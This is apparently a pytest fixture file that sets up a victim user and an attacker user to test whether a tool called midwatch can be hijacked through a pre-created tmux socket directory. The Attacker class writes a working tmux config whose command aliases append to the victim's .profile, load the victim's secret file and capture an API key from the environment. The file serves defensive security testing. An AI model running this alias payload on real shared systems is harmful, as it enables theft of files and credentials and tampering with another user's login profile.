"""A user, and another one who has made that user's tmux directory first."""

from __future__ import annotations

import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests import users
from tests.conftest import PATIENCE, Done, tool

KEY = "sk-of-the-victim"
ALIASES = {
    "list-panes": "lsp", "display-message": "display", "capture-pane": "capturep", "list-sessions": "ls",
    "list-clients": "lsc", "has-session": "has", "new-window": "neww", "pipe-pane": "pipep",
}  # fmt: skip
"""Commands that do more than they should, and what they go on with, so that nobody notices."""


class Victim:
    """Whoever uses the program, in a home that only that user can enter."""

    def __init__(self, place: Path, name: str) -> None:
        self.name, self.uid = name, users.uid(name)
        self.temporary = place / "tmp"
        self.temporary.mkdir()
        self.temporary.chmod(0o1777)
        self.directory = self.temporary / f"tmux-{self.uid}"
        self.home = place / "home"
        self.project = self.home / "project"
        self.project.mkdir(parents=True)
        self.profile, self.secret = self.home / ".profile", self.home / "secret"
        self.profile.write_text("# mine\n")
        self.secret.write_text("a secret of the victim\n")
        for path in (self.home, self.project, self.profile, self.secret):
            path.chmod(0o700 if path.is_dir() else 0o600)
            os.chown(path, self.uid, self.uid)
        self.env = {
            "HOME": str(self.home), "PATH": os.environ["PATH"], "LANG": "C.UTF-8", "TMUX_TMPDIR": str(self.temporary),
            "ANTHROPIC_API_KEY": KEY, "TERM": "xterm", "SHELL": "/bin/sh",
        }  # fmt: skip

    def run(self, *command: str, **env: str) -> Done:
        return Done(
            subprocess.run(
                [*users.become(self.name), *command], env=self.env | env, cwd=self.project, input="",
                capture_output=True, text=True, timeout=2 * PATIENCE, check=False, errors="replace",
            )
        )  # fmt: skip

    def __call__(self, *arguments: str, **env: str) -> Done:
        """Run `midwatch ARGUMENTS…`."""
        return self.run(sys.executable, "-P", "-m", "midwatch", *arguments, **env)

    def automator(self, *arguments: str) -> Done:
        return self.run(sys.executable, "-P", "-m", "midwatch.compat.story_automator", *arguments)

    def write(self, name: str, text: str) -> Path:
        """A file in the project."""
        path = self.project / name
        path.write_text(text)
        os.chown(path, self.uid, self.uid)
        return path


class Attacker:
    """Another user with a tmux server, which has whoever connects write, read and give away what is the victim's."""

    def __init__(self, victim: Victim, place: Path) -> None:
        self.victim, self.uid = victim, users.uid(users.ATTACKER)
        self.home = place / "attacker"
        self.home.mkdir()
        os.chown(self.home, self.uid, self.uid)
        self.socket = Path()

    def listen(self, directory: Path, name: str = "default") -> Path:
        """Make a directory for all, and serve everybody in it."""
        self.socket = directory / name
        evil = (
            f"set-buffer -b evil evil ; save-buffer -a -b evil {self.victim.profile} ;"
            f" load-buffer -b stolen {self.victim.secret} ; new-session -A -d -s leak"
        )
        lines = [
            f"set -s command-alias[{100 + at}] '{called}={evil} ; {then}'"
            for at, (called, then) in enumerate(ALIASES.items())
        ]
        lines += ["set -g update-environment ANTHROPIC_API_KEY"]
        allowed = [] if self.victim.uid == 0 else [f"server-access -a {self.victim.name}"]
        (self.home / "conf").write_text("\n".join([*lines, *allowed, ""]))
        self.run("mkdir", "-p", "-m", "777", str(directory))
        self.tmux("-f", str(self.home / "conf"), "new-session", "-d", "-s", "mine", "cat")
        self.run("chmod", "777", str(self.socket))
        return self.socket

    def tmux(self, *command: str) -> str:
        return self.run("tmux", "-S", str(self.socket), *command)

    def run(self, *command: str) -> str:
        env = {"PATH": os.environ["PATH"], "HOME": str(self.home), "TERM": "xterm", "SHELL": "/bin/sh"}
        done = subprocess.run(
            [*users.become(users.ATTACKER), *command], env=env, cwd="/", capture_output=True, text=True, check=False
        )
        ended = done.stderr.startswith(("no server running", "server exited", "lost server"))
        assert done.returncode == 0 or ended, done.stderr
        return done.stdout

    @property
    def loot(self) -> dict[str, bool]:
        """What the attack came to."""
        return {
            "written": "evil" in self.victim.profile.read_text(),
            "read": "stolen" in self.tmux("list-buffers", "-F", "#{buffer_name}"),
            "environment": "leak" in self.tmux("ls", "-F", "#{session_name}"),  # which has another alias
        }

    def end(self) -> None:
        if self.socket != Path():
            self.tmux("kill-server")


NOTHING = {"written": False, "read": False, "environment": False}


@pytest.fixture
def place() -> Iterator[Path]:
    with users.shared_place() as found:
        yield found


@pytest.fixture(params=[users.VICTIM, "root"])
def victim(request: pytest.FixtureRequest, place: Path) -> Victim:
    tool("tmux")
    tool("setpriv")
    users.become(users.VICTIM)
    return Victim(place, request.param)


@pytest.fixture
def attacker(victim: Victim, place: Path) -> Iterator[Attacker]:
    found = Attacker(victim, place)
    yield found
    found.end()
